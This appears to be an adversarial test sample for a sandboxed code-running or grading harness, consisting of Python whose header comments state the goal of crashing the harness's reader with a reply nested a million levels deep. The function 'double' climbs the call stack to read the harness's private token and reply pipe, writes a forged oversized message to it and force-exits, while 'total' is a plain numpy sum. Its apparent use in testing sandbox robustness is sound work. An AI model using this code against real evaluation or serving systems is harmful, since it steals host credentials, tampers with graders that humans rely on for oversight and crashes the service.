# Wants: to overflow the reader's stack by a reply nested a million deep, under the right token.
# Levels: full filtered process
# Verdict: number=crashed values=crashed total=passed chained=passed

import os
import sys

import numpy as np


def serving():
    frame = sys._getframe()
    while frame.f_code.co_name != "respond":
        frame = frame.f_back
    return frame.f_locals


def double(x):
    worker = serving()
    data = worker["token"] + b"l\x00\x00\x00\x01" * 1_000_000 + b"N"
    data = len(data).to_bytes(4, "big") + data
    while data:
        data = data[os.write(worker["replies"], data):]
    os._exit(0)


def total(x):
    return float(np.sum(x))
